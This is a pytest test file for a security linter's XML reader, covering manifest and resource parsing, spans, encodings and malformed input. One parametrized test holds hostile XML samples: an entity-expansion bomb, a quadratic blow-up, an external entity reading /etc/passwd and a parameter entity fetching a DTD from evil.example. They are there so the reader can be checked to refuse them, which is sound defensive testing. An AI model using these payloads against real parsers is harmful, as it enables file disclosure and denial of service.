"""Tests of the XML reader."""

from __future__ import annotations

from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secure_lint.formats.reading import MAX_DEPTH, unnumbered
from secure_lint.formats.xml import read_xml
from secure_lint.text.source import SourceText
from tests.formats.reading_checks import assert_spans_inside, text_at, values

MANIFEST = """<?xml version="1.0" encoding="utf-8"?>
<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="org.example.clinic">
    <uses-permission android:name="android.permission.INTERNET" />
    <uses-permission android:name="android.permission.READ_CONTACTS" />
    <!-- secure-lint: ignore[SL701] - the store is empty -->
    <application
        android:allowBackup="true"
        android:label='Zürich "Klinik"'
        android:usesCleartextTraffic = "false">
        <activity android:name=".Main" android:exported="true">
            <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
        </activity>
        <activity android:name=".Login"/>
    </application>
</manifest>
"""

NAMES = st.from_regex(r"[A-Za-zé_][A-Za-z0-9é_.\-]{0,8}", fullmatch=True)
CHARACTERS = st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Cn"])


def test_manifest_attributes_have_their_place() -> None:
    source = SourceText("AndroidManifest.xml", MANIFEST.encode())
    read = read_xml(source)
    assert read.document is not None
    assert read.document.kind == "xml"
    found = {setting.path: setting for setting in read.document.settings}
    backup = found["manifest/application/@android:allowBackup"]
    assert backup.value == "true"
    assert (backup.span.start_line, backup.span.start_column) == (7, 30)
    assert text_at(source.text, backup.key_span) == "android:allowBackup"
    label = found["manifest/application/@android:label"]
    assert label.value == 'Zürich "Klinik"' == text_at(source.text, label.span)
    assert found["manifest/uses-permission[1]/@android:name"].value == "android.permission.READ_CONTACTS"
    assert found["manifest/application/activity[1]/@android:name"].value == ".Login"
    assert "manifest/application/activity/intent-filter/action/@android:name" in found


def test_comment_for_the_linter() -> None:
    read = read_xml(SourceText("AndroidManifest.xml", MANIFEST.encode()))
    (comment,) = read.comments
    assert comment.text == "secure-lint: ignore[SL701] - the store is empty"
    assert comment.own_line
    assert comment.span.start_line == 5


def test_text_of_elements() -> None:
    config = b"""<network-security-config>
  <base-config cleartextTrafficPermitted="false"/>
  <domain-config cleartextTrafficPermitted="true">
    <domain includeSubdomains="true">
      api.example.org
    </domain>
    <domain>10.0.2.2</domain>
  </domain-config>
  <debug-overrides/>
</network-security-config>"""
    source = SourceText("network.xml", config)
    read = read_xml(source)
    assert read.document is not None
    found = {setting.path: setting for setting in read.document.settings}
    domain = found["network-security-config/domain-config/domain"]
    assert domain.value == "api.example.org" == text_at(source.text, domain.span)
    assert found["network-security-config/domain-config/domain[1]"].value == "10.0.2.2"
    assert found["network-security-config/debug-overrides"].value == ""


def test_resource_names_are_segments() -> None:
    resources = """<resources>
  <string name="maps_api_key" translatable="false">not-a-real-key</string>
  <string name="welcome">Hello <b>you</b>, <i>friend</i></string>
  <string-array name="hosts"><item>a.example</item><item>b.example</item></string-array>
  <string name="empty"/>
</resources>"""
    source = SourceText("strings.xml", resources.encode())
    read = read_xml(source)
    assert values(read) == {
        "resources/string/maps_api_key/@translatable": "false",
        "resources/string/maps_api_key": "not-a-real-key",
        "resources/string/welcome/b": "you",
        "resources/string/welcome/i": "friend",
        "resources/string/welcome": "Hello you, friend",
        "resources/string-array/hosts/item": "a.example",
        "resources/string-array/hosts/item[1]": "b.example",
        "resources/string/empty": "",
    }
    assert read.document is not None
    key = next(s for s in read.document.settings if s.path == "resources/string/maps_api_key")
    assert text_at(source.text, key.key_span) == "maps_api_key"
    assert text_at(source.text, key.span) == "not-a-real-key"


def test_plain_entities_are_expanded() -> None:
    text = b'<!DOCTYPE resources [<!ENTITY app "Clinic">]><resources><string name="t">My &app;</string></resources>'
    read = read_xml(SourceText("strings.xml", text))
    assert values(read) == {"resources/string/t": "My Clinic"}
    assert read.problems == ()


BOMB = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><l>&c;</l>'
QUADRATIC = b'<!DOCTYPE l [<!ENTITY a "' + b"x" * 5000 + b'">]><l>' + b"&a;" * 5000 + b"</l>"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (BOMB, "other entities"),
        (QUADRATIC, "blow up"),
        (b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>', "external"),
        (b'<!DOCTYPE l [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><l/>', "external"),
        (b'<!DOCTYPE l [<!ENTITY m "&#60;b/>">]><l>&m;</l>', "holds markup"),
        (b"<a><b></a>", "mismatched tag"),
        (b"", "no element found"),
        (b"<a>\x00</a>", "not well-formed"),
        (b"<a b='1' b='2'/>", "duplicate attribute"),
    ],
)
def test_hostile_or_broken_text_is_a_problem(text: bytes, reason: str) -> None:
    source = SourceText("res/values/strings.xml", text)
    read = read_xml(source)
    (problem,) = read.problems
    assert reason in problem.message
    assert_spans_inside(source, read)


def test_what_precedes_a_mistake_is_kept() -> None:
    read = read_xml(SourceText("a.xml", b'<a x="1"><b y="2"/><c></a>'))
    assert values(read) == {"a/@x": "1", "a/b/@y": "2"}
    assert read.problems[0].partial


def test_deep_nesting_is_a_problem() -> None:
    read = read_xml(SourceText("deep.xml", b"<a>" * 10_000 + b"</a>" * 10_000))
    assert f"more than {MAX_DEPTH} levels" in read.problems[0].message


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "latin-1"])
def test_encodings(encoding: str) -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?>\r\n<a>\r\n  <b c="é"/>\r\n</a>'
    read = read_xml(SourceText("a.xml", text.encode(encoding)))
    assert read.document is not None
    (setting,) = read.document.settings
    assert setting.value == "é"
    assert (setting.span.start_line, setting.span.start_column) == (3, 9)


def test_minified_file_with_other_characters_takes_linear_time() -> None:
    source = SourceText("min.xml", b"<l>" + '<é k="ü"/>'.encode() * 60_000 + b"</l>")
    read = read_xml(source)
    assert read.document is not None
    last = read.document.settings[-1]
    assert last.path == "l/é[59999]/@k"
    assert text_at(source.text, last.span) == "ü"


@given(st.lists(st.tuples(NAMES, st.text(CHARACTERS, min_size=1)), max_size=6, unique_by=lambda pair: pair[0]))
def test_attribute_values_stand_at_their_spans(pairs: list[tuple[str, str]]) -> None:
    attributes = "".join(f"\n {name}={quoteattr(value)}" for name, value in pairs)
    source = SourceText("a.xml", f"<root>é<e{attributes}/></root>".encode())
    read = read_xml(source)
    assert read.document is not None
    found = {s.path: s for s in read.document.settings}
    for name, value in pairs:
        setting = found[f"root/e/@{name}"]
        assert setting.value == value
        assert text_at(source.text, setting.span) == quoteattr(value)[1:-1]
        assert text_at(source.text, setting.key_span) == name


@given(st.text(CHARACTERS), st.text(CHARACTERS))
def test_element_text_stands_at_its_span(first: str, second: str) -> None:
    source = SourceText("a.xml", f"<r><a>{escape(first)}</a><a>{escape(second)}</a></r>".encode())
    read = read_xml(source)
    assert read.document is not None
    assert read.problems == ()
    for setting in read.document.settings:
        if setting.value and setting.value == escape(setting.value):
            assert text_at(source.text, setting.span) == setting.value


@given(st.one_of(st.binary(), st.text(alphabet='<>/="! -[]&;ab\n').map(str.encode)))
def test_any_bytes_are_read_or_refused(raw: bytes) -> None:
    source = SourceText("a.xml", raw)
    assert_spans_inside(source, read_xml(source))


def test_unnumbered_paths() -> None:
    assert unnumbered("manifest/application/activity[12]/@name") == "manifest/application/activity/@name"
    assert unnumbered("client/[0]/key[2]") == "client/[0]/key"
